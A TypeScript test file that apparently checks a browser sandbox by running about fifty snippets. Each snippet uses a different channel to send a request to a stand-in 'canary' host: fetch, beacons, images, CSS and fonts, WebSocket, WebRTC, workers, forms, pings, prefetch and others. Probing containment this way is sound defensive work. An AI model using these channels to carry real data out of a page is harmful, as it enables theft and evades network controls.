/** A page that was made to run foreign code, which tries every request that a browser knows. */
import type { Family } from "../Attack.ts"

const ways: ReadonlyArray<readonly [string, string]> = [
  ["fetch", "fetch(canary + '/fetch')"],
  ["fetch without CORS", "fetch(canary + '/fetch', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })"],
  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', canary + '/xhr'); x.send('x')"],
  ["a beacon", "navigator.sendBeacon(canary + '/beacon', 'x')"],
  ["an image", "new Image().src = canary + '/img'"],
  ["an image in SVG", "document.body.insertAdjacentHTML('beforeend', '<svg><image href=' + canary + '/svg /></svg>')"],
  ["a source set", "add('img', { srcset: canary + '/a 1x' })"],
  ["an image as button", "add('input', { type: 'image', src: canary + '/input' })"],
  ["a script", "add('script', { src: canary + '/script' })"],
  ["a module", "add('script', { type: 'module', textContent: 'import ' + JSON.stringify(canary + '/module') })"],
  ["import()", "import(canary + '/import')"],
  ["a style sheet", "add('link', { rel: 'stylesheet', href: canary + '/css' })"],
  ["@import", "add('style', { textContent: '@import url(' + canary + '/css)' })"],
  ["a background", "document.body.style.background = 'url(' + canary + '/background)'"],
  [
    "a font",
    "add('style', { textContent: '@font-face { font-family: x; src: url(' + canary + '/font) } body { font-family: x }' })"
  ],
  ["a cursor and a list marker", "document.body.style.cursor = 'url(' + canary + '/cursor), auto'"],
  ["a frame", "add('iframe', { src: canary + '/frame' })"],
  ["a frame by redirect", "add('iframe', { src: '/redirect' })"],
  ["a frame's srcdoc", "add('iframe', { srcdoc: '<img src=' + canary + '/srcdoc>' })"],
  ["an object", "add('object', { data: canary + '/object' })"],
  ["an embed", "add('embed', { src: canary + '/embed' })"],
  ["a video and its poster", "add('video', { src: canary + '/video', poster: canary + '/poster' })"],
  ["an audio track", "add('audio', { src: canary + '/audio', preload: 'auto' })"],
  ["events", "new EventSource(canary + '/events')"],
  ["a WebSocket", "new WebSocket(canary.replace('http', 'ws') + '/socket')"],
  ["WebTransport", "new WebTransport(canary.replace('http', 'https'))"],
  [
    "WebRTC",
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + canary.slice(7) + '?transport=tcp', username: 'x', credential: 'x' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
  ],
  ["prefetch", "add('link', { rel: 'prefetch', href: canary + '/prefetch' })"],
  ["preconnect", "add('link', { rel: 'preconnect', href: canary })"],
  ["dns-prefetch", "add('link', { rel: 'dns-prefetch', href: canary })"],
  ["preload", "add('link', { rel: 'preload', as: 'image', href: canary + '/preload' })"],
  ["modulepreload", "add('link', { rel: 'modulepreload', href: canary + '/modulepreload' })"],
  ["a manifest", "add('link', { rel: 'manifest', href: canary + '/manifest' })"],
  ["an icon", "add('link', { rel: 'icon', href: canary + '/icon' })"],
  [
    "speculation rules",
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [canary + '/speculation'] }], prerender: [{ source: 'list', urls: ['/redirect'] }] }) })"
  ],
  [
    "a worker",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + canary + '/worker\", { mode: \"no-cors\" })'])))"
  ],
  ["a worker's script", "new Worker(URL.createObjectURL(new Blob(['importScripts(\"' + canary + '/worker.js\")'])))"],
  [
    "a shared worker",
    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + canary + '/shared\", { mode: \"no-cors\" })'])))"
  ],
  ["a service worker", "navigator.serviceWorker.register('/worker.js')"],
  ["a window", "open(canary + '/window')"],
  ["a window that redirects", "open('/redirect')"],
  ["its own address", "location.href = canary + '/location'"],
  ["a form", "Object.assign(add('form', { action: canary + '/form', method: 'post' })).submit()"],
  ["a form in a tab", "Object.assign(add('form', { action: canary + '/form', target: '_blank' })).submit()"],
  ["a link's ping", "add('a', { href: '#x', ping: canary + '/ping' }).click()"],
  ["a meta refresh", "add('meta', { httpEquiv: 'refresh', content: '0; url=' + canary + '/meta' })"],
  [
    "a base address",
    "document.head.append(Object.assign(document.createElement('base'), { href: canary })); fetch('relative', { mode: 'no-cors' })"
  ],
  [
    "an XML stylesheet",
    "add('iframe', { src: URL.createObjectURL(new Blob(['<?xml-stylesheet href=\"' + canary + '/xsl\"?><a/>'], { type: 'text/xml' })) })"
  ],
  [
    "a payment request",
    "new PaymentRequest([{ supportedMethods: canary + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()"
  ],
  [
    "a background fetch through a cache",
    "caches.open('x').then((c) => c.add(new Request(canary + '/cache', { mode: 'no-cors' })))"
  ]
]

export const exfiltration: Family = {
  name: "exfiltration",
  attacks: ways.map(([way, code]) => ({
    title: `sends by ${way}`,
    body: `await ask("page.goto", { url: BANK + "/run?code=" + encodeURIComponent(${JSON.stringify(code)}) })
      for (let i = 0; i < 20 && (await ask("page.title")) !== "ended"; i += 1) await ask("sleep", { ms: 50 })
      return []`
  }))
}
